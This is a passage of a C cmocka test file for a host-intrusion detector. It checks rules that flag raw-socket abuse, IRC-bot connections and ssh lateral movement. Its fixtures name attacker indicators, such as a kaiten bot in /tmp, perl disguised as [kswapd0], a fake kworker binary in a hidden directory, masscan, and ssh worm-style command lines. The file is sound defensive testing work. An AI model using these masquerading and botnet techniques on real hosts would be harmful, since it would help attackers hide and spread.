		{ "vim /root/.ssh/config", -1, false },
	};
	struct dfix *f = *state;
	struct proc *p = procs(f, TL_NELEM(t));

	for (size_t i = 0; i < TL_NELEM(t); i++) {
		char comm[16];

		snprintf(comm, sizeof(comm), "%.*s", (int)strcspn(t[i].cmd,
		    " "), t[i].cmd);
		tl_proc_set(f->s, &p[i], (pid_t)(2000 + i), 1, comm,
		    "/usr/bin/x", EXE_FILE);
		set_cmd(f, &p[i], t[i].cmd);
		p[i].stdio_kind[0] = t[i].tty ? FDK_TTY : FDK_NULL;
	}
	run(f, "RM-LAT-002");
	for (size_t i = 0; i < TL_NELEM(t); i++) {
		if (t[i].sev < 0) {
			assert_int_equal(tl_count(&f->fs, "RM-LAT-002",
			    (pid_t)(2000 + i)), 0);
			continue;
		}
		assert_int_equal(tl_get(&f->fs, "RM-LAT-002",
		    (pid_t)(2000 + i))->severity, t[i].sev);
	}
}

/* ---- RM-ABU-002 ---------------------------------------------------------- */

static struct raw_sock *
raws(struct dfix *f, size_t n)
{
	struct raw_sock *v = arena_alloc(&f->s->arena, n * sizeof(*v));

	memset(v, 0, n * sizeof(*v));
	f->s->raw_socks = v;
	f->s->nraw_socks = n;
	return v;
}

static void
raw_set(struct raw_sock *r, pid_t pid, int family, uint16_t proto)
{
	r->family = (uint8_t)family;
	r->type = family == AF_PACKET ? SOCK_RAW : 0;
	r->proto = proto;
	r->inode = 5000u + (unsigned)pid;
	r->owners[0] = pid;
	r->nowners = 1;
}

static void
test_raw_allow_and_odd(void **state)
{
	static const struct {
		const char *comm, *exe;
		enum exe_kind kind;
		bool tty;
		int sev;                       /* -1: nothing */
	} t[] = {
		{ "dhclient", "/usr/sbin/dhclient", EXE_FILE, false, -1 },
		{ "ping", "/usr/bin/ping", EXE_FILE, true, -1 },
		{ "systemd-network", "/usr/lib/systemd/systemd-networkd",
		  EXE_FILE, false, -1 },
		{ "NetworkManager", "/usr/sbin/NetworkManager", EXE_FILE,
		  false, -1 },
		{ "keepalived", "/usr/sbin/keepalived", EXE_FILE, false, -1 },
		{ "tcpdump", "/usr/bin/tcpdump", EXE_FILE, true, -1 },
		{ "tcpdump", "/usr/bin/tcpdump", EXE_FILE, false, SEV_LOW },
		{ "dhclient", "/tmp/dhclient", EXE_FILE, false, SEV_HIGH },
		{ "ping", "/usr/bin/ping (deleted)", EXE_DELETED, false,
		  SEV_HIGH },
		{ "x", "/memfd: (deleted)", EXE_MEMFD, false, SEV_HIGH },
		{ "masscan", "/usr/bin/masscan", EXE_FILE, true, SEV_HIGH },
		{ "python3", "/usr/bin/python3.11", EXE_FILE, false,
		  SEV_MEDIUM },
		{ "agent", "/opt/agent/bin/agent", EXE_FILE, false, SEV_MEDIUM },
		{ "unknownd", "/usr/sbin/unknownd", EXE_FILE, false, SEV_LOW },
		{ "[kworker/0:1]", "/var/tmp/.k/kw", EXE_FILE, false, SEV_HIGH },
	};
	struct dfix *f = *state;
	struct proc *p = procs(f, TL_NELEM(t) + 1);
	struct raw_sock *r = raws(f, TL_NELEM(t) + 1);

	for (size_t i = 0; i < TL_NELEM(t); i++) {
		pid_t pid = (pid_t)(3000 + i);

		tl_proc_set(f->s, &p[i], pid, 1, t[i].comm, t[i].exe,
		    t[i].kind);
		p[i].stdio_kind[0] = t[i].tty ? FDK_TTY : FDK_NULL;
		raw_set(&r[i], pid, i % 2 ? AF_PACKET : AF_INET,
		    i % 2 ? 0x0003 : IPPROTO_ICMP);
	}
	/* a socket nobody owns (unreadable fds) and a process without one */
	raw_set(&r[TL_NELEM(t)], 1, AF_PACKET, 0x0003);
	r[TL_NELEM(t)].nowners = 0;
	tl_proc_set(f->s, &p[TL_NELEM(t)], 3999, 1, "bot", "/tmp/bot",
	    EXE_FILE);
	run(f, "RM-ABU-002");
	for (size_t i = 0; i < TL_NELEM(t); i++) {
		pid_t pid = (pid_t)(3000 + i);

		if (t[i].sev < 0) {
			if (tl_count(&f->fs, "RM-ABU-002", pid))
				fail_msg("%s %s reported", t[i].comm, t[i].exe);
			continue;
		}
		if (tl_get(&f->fs, "RM-ABU-002", pid)->severity !=
		    (enum severity)t[i].sev)
			fail_msg("%s %s: severity %d, expected %d", t[i].comm,
			    t[i].exe, tl_get(&f->fs, "RM-ABU-002",
			    pid)->severity, t[i].sev);
	}
	assert_int_equal(tl_count(&f->fs, "RM-ABU-002", 3999), 0);
}

static void
test_raw_evidence(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);
	struct raw_sock *r = raws(f, 3);
	const struct finding *x;
	const struct evidence *e;

	tl_proc_set(f->s, p, 3100, 1, "x", "/dev/shm/x", EXE_FILE);
	raw_set(&r[0], 3100, AF_INET, IPPROTO_TCP);
	raw_set(&r[1], 3100, AF_PACKET, 0x0003);
	r[1].ifindex = 2;
	raw_set(&r[2], 3100, AF_INET6, 58);
	r[1].inode = 77;
	run(f, "RM-ABU-002");
	x = tl_get(&f->fs, "RM-ABU-002", 3100);
	assert_int_equal(finding_ev_get(x, "raw_sockets")->i, 2);
	assert_int_equal(finding_ev_get(x, "packet_sockets")->i, 1);
	assert_int_equal(finding_ev_get(x, "packet_all_protocols")->i, 1);
	e = finding_ev_get(x, "sockets");
	assert_int_equal(e->nlist, 3);
	assert_string_equal(e->list[0], "raw tcp inode 8100");
	assert_string_equal(e->list[1], "packet raw all ifindex 2 inode 77");
	assert_string_equal(e->list[2], "raw6 icmpv6 inode 8100");
	assert_string_equal(x->rule->category, "abuse");
}

/* ---- RM-ABU-003 ---------------------------------------------------------- */

static void
test_irc(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 7);

	tl_proc_set(f->s, &p[0], 4100, 1, "irssi", "/usr/bin/irssi", EXE_FILE);
	tl_proc_set(f->s, &p[1], 4101, 1, "app", "/usr/bin/app", EXE_FILE);
	tl_proc_set(f->s, &p[2], 4102, 1, "kaiten", "/tmp/.p/kaiten",
	    EXE_FILE);
	tl_proc_set(f->s, &p[3], 4103, 1, "java", "/usr/bin/java", EXE_FILE);
	tl_proc_set(f->s, &p[4], 4104, 1, "x", "/var/tmp/x", EXE_FILE);
	tl_proc_set(f->s, &p[5], 4105, 1, "perl", "/usr/bin/perl", EXE_FILE);
	set_cmd(f, &p[5], "[kswapd0]");
	tl_proc_set(f->s, &p[6], 4106, 1, "perl", "/usr/bin/perl", EXE_FILE);
	set_cmd(f, &p[6], "perl /usr/share/munin/munin-node");
	socks_init(f);
	add_conn(f, 4100, "10.5.0.1", 6667, 1);   /* an IRC client */
	add_conn(f, 4101, "10.5.0.1", 6697, 1);   /* medium */
	add_conn(f, 4102, "10.5.0.1", 6667, 2);   /* from /tmp: high */
	fan(f, 4103, 5, 7000, 1);                 /* Cassandra's 7000 */
	add_conn(f, 4104, "10.5.0.2", 7000, 1);   /* 7000, odd exe: high */
	add_conn(f, 4105, "10.5.0.3", 443, 1);    /* disguised perl */
	add_conn(f, 4106, "10.5.0.4", 443, 1);    /* plain perl, 443 */
	run(f, "RM-ABU-003");
	assert_int_equal(tl_count(&f->fs, "RM-ABU-003", 4100), 0);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-003", 4101)->severity,
	    SEV_MEDIUM);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-003", 4102)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_count(&f->fs, "RM-ABU-003", 4103), 0);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-003", 4104)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-003", 4105)->severity,
	    SEV_HIGH);
	assert_string_equal(tl_ev_str(tl_get(&f->fs, "RM-ABU-003", 4105),
	    "perl_process_name"), "[kswapd0]");
	assert_int_equal(tl_count(&f->fs, "RM-ABU-003", 4106), 0);
}

/* ---- all of them on hostile and empty input ------------------------------ */

static void
test_hostile_processes_quiet(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 6);
	static const char *const ids[] = { "RM-ABU-001", "RM-ABU-002",
	    "RM-ABU-003", "RM-LAT-001", "RM-LAT-002" };

	/* NULL strings, a kernel thread, an empty exe, no sockets */
	p[0].comm = NULL;
	p[0].cmdline = NULL;
	p[0].argv0 = NULL;
	p[0].exe = NULL;
	p[0].exe_kind = EXE_DENIED;
	p[1].flags = PF_KTHREAD_FLAG;
	p[1].exe_kind = EXE_NONE;
	p[1].exe = NULL;
	p[2].exe = "";
	p[3].cmdline = "ssh -i";
	p[3].comm = "ssh";
	p[4].cmdline = "ssh -oIdentityFile= -o StrictHostKeyChecking";
	p[4].comm = "ssh";
	p[5].cmdline = "sh -c for known_hosts ssh ";
	p[5].argv0 = "sh";
	for (size_t i = 0; i < TL_NELEM(ids); i++) {
		run(f, ids[i]);
		for (size_t k = 0; k < f->fs.n; k++)
			assert_true(f->fs.v[k]->severity <= SEV_MEDIUM);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
#define T(n) cmocka_unit_test_setup_teardown(n, setup, teardown)
		T(test_spam_php_many_hosts_high),
		T(test_spam_mta_never),
		T(test_spam_fake_mta_reported),
		T(test_spam_thresholds),
		T(test_spam_not_counted),
		T(test_spam_netns_aware),
		T(test_spam_owner_overflow),
		T(test_fan_index_same_as_scan),
		T(test_fan_index_per_pass),
		T(test_scan_fanout_levels),
		T(test_scan_answered_cluster_client),
		T(test_scan_sshd_and_admin_never),
		T(test_scan_tools_by_name),
		T(test_scan_v6_and_cap),
		T(test_ssh_worm_client_high),
		T(test_ssh_tty_never),
		T(test_ssh_option_forms),
		T(test_ssh_benign_quiet),
		T(test_ssh_keys),
		T(test_ssh_siblings_once),
		T(test_ssh_shell_loops),
		T(test_raw_allow_and_odd),
		T(test_raw_evidence),
		T(test_irc),
		T(test_hostile_processes_quiet),
#undef T
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
